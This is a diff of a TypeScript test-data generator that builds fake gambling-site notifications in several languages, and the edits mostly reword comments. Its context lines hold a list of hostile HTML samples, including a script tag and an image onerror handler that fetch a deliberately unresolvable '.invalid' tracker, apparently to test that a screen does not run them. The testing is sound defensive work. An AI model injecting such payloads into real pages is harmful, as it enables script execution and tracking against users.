@@ -3,7 +3,7 @@ import texts from '../texts/notifications.json' with { type: 'json' }
 import { type Clock, timeA } from './clock.ts'
 import { drifting, type WireObject, at, type Random, randomOf, uuidOf } from './seed.ts'
 
-// `he` is written from right to left.
+// Hebrew is written from right to left.
 const languages = ['en', 'de', 'pt', 'he'] as const
 type Language = (typeof languages)[number]
 
@@ -11,7 +11,7 @@ const notificationCount = 120
 const amounts = ['€10.00', '€25.00', '€148.20', '€1,204,551.00']
 const games = ['Dragon Riches', 'Coral Treasure', 'Viking Legends', 'Lucky Sevens', 'Cosmic Spins']
 
-// Text in double braces stays: it is a placeholder the sender forgot.
+// Keeps text in double braces: a placeholder that the sender forgot.
 const filled = (html: string, index: number, origin: string) =>
   html
     .replaceAll(/(?<!\{)\{amount\}/g, at(amounts, index))
@@ -33,7 +33,7 @@ const contentsOf = (
 // Addresses end in .invalid, which never resolves (RFC 6761): a successful attack still reaches no host.
 const tracker = 'https://tracker.invalid'
 
-/** Contents that a careless screen would run, load or follow. Each has readable text beside its attack. */
+/** Contents that a careless screen would run, load or follow. Each also has readable text. */
 const hostileHtml: readonly string[] = [
   `<p>Your prize is ready.</p><script>parent.document.title = 'owned'; fetch('${tracker}/script')</script>`,
   `<p>Look at this picture.</p><img src="${tracker}/open.gif?player=1" width="1" height="1" onerror="fetch('${tracker}/onerror')">`,
@@ -67,7 +67,7 @@ const contents = (index: number, random: Random, origin: string): NotificationCo
   if (index % 10 === 7) {
     const careless = contentsOf(at(texts.careless, Math.floor(index / 10)), index, origin)
     if (index % 30 === 17) return defaults(careless, () => false)
-    return index % 30 === 27 ? defaults(careless, (place) => place < 2) : careless
+    return index % 30 === 27 ? defaults(careless, (at) => at < 2) : careless
   }
   return contentsOf(random.pick(texts.messages), index, origin, spokenBy(random))
 }
@@ -93,7 +93,7 @@ const makeNotification = (index: number, created: Date, origin: string): Notific
   }
 }
 
-/** The rich player's notifications, newest first; the unread have `null` for `read_at`, as Laravel does, and drift. */
+/** The rich player's notifications, newest first. Unread ones have a `null` in `read_at`, as Laravel sends it, which is drift. */
 export const makeNotifications = (clock: Clock, origin: string): readonly WireObject[] => {
   const random = randomOf('notification times')
   let daysAgo = 0.04
